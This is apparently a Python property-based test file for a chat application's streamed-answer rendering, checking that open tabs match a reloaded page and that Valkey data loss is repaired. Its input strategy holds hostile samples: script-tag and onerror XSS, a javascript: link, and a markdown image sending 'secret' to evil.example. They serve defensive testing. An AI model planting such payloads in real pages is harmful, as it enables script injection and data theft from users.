"""However an answer is cut, and whenever its page is opened: the tab ends with the same bytes as the page after a reload."""

from __future__ import annotations

import json
from typing import Any
from uuid import UUID

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from conversations import events, live_text
from conversations.models import Generation, Message
from conversations.rendering import notes_at, render
from conversations.rendering.tests.answers import cut, cuts, texts
from conversations.runner.answer import Answer
from conversations.runner.host import get_host
from conversations.selectors.messages import view
from conversations.services.claim_generation import Job
from core.ids import uuid7
from core.redis import get_redis
from tests.page import Article, read_articles
from usage.types import UnitPrices

hostile = st.sampled_from(
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "![y](https://evil.example/?q=secret)",
        "\u202eevil\x00",
        "a\ud800b",
        "</div></article><article data-part='body'>",
    ]
)
answers = st.one_of(texts, st.builds(lambda before, evil, after: before + evil + after, texts, hostile, texts))


class Written:
    """An answer that is being written: its commands go to Valkey, its events to whoever listens, its page can be opened."""

    def __init__(self) -> None:
        self.message = Message(id=uuid7(), conversation_id=uuid7(), parent_id=uuid7(), role="assistant", text="")
        self.message.generation = Generation(id=uuid7(), message=self.message, model_key="m", model_name="M", state="running")
        job = Job(self.message.generation.id, self.message.id, self.message.conversation_id, "key", None, UnitPrices())
        self.answer = Answer(job)
        self.events: list[dict[str, Any]] = []

    def tick(self) -> None:
        for command in self.answer.take_commands():
            if command[0] == "PUBLISH" and isinstance(command[2], bytes):
                self.events.append(json.loads(command[2]))
            else:
                get_redis().execute_command(*command)  # type: ignore[no-untyped-call]

    def end(self) -> None:
        text = self.answer.text
        self.message.text, self.message.html = text, render(text)
        self.message.generation.state = "completed"
        live_text.forget(self.message.id)

    def open_page(self) -> Article:
        """What a page that is opened now shows."""
        identifier: UUID = self.message.id
        (article,) = read_articles(events.message_html(view(self.message, [identifier], live_text.read([identifier])[identifier])))
        return article


class Listener:
    """A tab that was opened when `heard` events had been sent, and gets some of them again."""

    def __init__(self, written: Written, again: int = 0) -> None:
        self.written = written
        self.heard = max(0, len(written.events) - again)
        self.article = written.open_page()

    def listen(self) -> None:
        while self.heard < len(self.written.events):
            fits = self.article.grow(self.written.events[self.heard])
            self.heard += 1
            if not fits:
                self.article = self.written.open_page()

    def lose(self) -> None:
        """A broken connection: what was sent does not come."""
        self.heard = len(self.written.events)

    def connect_again(self) -> None:
        """The state event: a page that has less asks for the message."""
        if self.written.open_page().offset > self.article.offset:
            self.article = self.written.open_page()

    def parts(self) -> tuple[int, str]:
        return self.article.offset, self.article.parts["closed"]


happening = st.sampled_from(["silence", "tick", "tick", "pause", "open", "open and hear again", "lose", "reload"])


@settings(max_examples=200, deadline=None)
@example(text="a note[^x]\n\n[^x]: of its own [^x]\n", places=[], happenings=["silence"])
@given(answers, cuts, st.lists(happening, min_size=1, max_size=12))
def test_every_tab_ends_like_the_page_after_a_reload(text: str, places: list[int], happenings: list[str]) -> None:
    written = Written()
    tabs = [Listener(written)]
    for number, piece in enumerate(cut(text, places)):
        written.answer.add_text(piece)
        now = happenings[number % len(happenings)]
        if now == "silence":
            continue  # it goes out with the next tick
        written.tick()
        if now == "pause":
            written.answer.level_page()
            written.tick()
        if now.startswith("open"):
            tabs.append(Listener(written, again=3 if now != "open" else 0))
        elif now == "lose":
            tabs[-1].lose()
        elif now == "reload":
            tabs[-1] = Listener(written)
        for tab in tabs:
            tab.listen()
        page = written.open_page()
        for tab in tabs:
            assert tab.article.offset < page.offset or tab.parts() == (page.offset, page.parts["closed"])
    written.tick()
    for tab in tabs:
        tab.listen()
        tab.connect_again()
    page = written.open_page()
    assert {tab.parts() for tab in tabs} == {(len(written.answer.text), page.parts["closed"])}
    last = written.answer._renderer.finish()  # what the pause for undecided marks held back
    for tab in tabs:
        assert tab.article.grow({"from": page.offset, "to": page.offset, **({} if last.tail is None else {"tail": last.tail})})
        assert tab.article.body == page.body
    written.end()
    told = read_articles(events.message_html(view(written.message, [written.message.id])))[0]
    assert all(told.knows_more_than(tab.article) for tab in tabs)
    whole = notes_at(render(written.answer.text), written.message.id.hex[-12:])
    assert told.body == written.open_page().body == whole


@pytest.mark.parametrize("change", ["forgotten", "written twice"])
def test_what_valkey_forgets_or_hears_twice_between_two_words_is_put_right(change: str) -> None:
    written, host = Written(), get_host()

    def send(text: str, thought: str) -> None:
        async def flush() -> None:
            written.answer.add_text(text)
            written.answer.add_reasoning(thought)
            await host.ticker.flush(written.answer)

        host.run(flush())

    send("Once upon a time ", "Let me ")
    for key in (live_text.text_key(written.message.id), live_text.reasoning_key(written.message.id)):
        if change == "forgotten":
            get_redis().delete(key)
        else:
            get_redis().append(key, b"again")
    send("there was a ", "think.")
    assert live_text.read([written.message.id])[written.message.id] == ("Once upon a time there was a ", "Let me think.")
    assert 0 < get_redis().ttl(live_text.text_key(written.message.id)) <= live_text.TTL_SECONDS
    send("king.", "")
    assert written.open_page().offset == len("Once upon a time there was a king.")
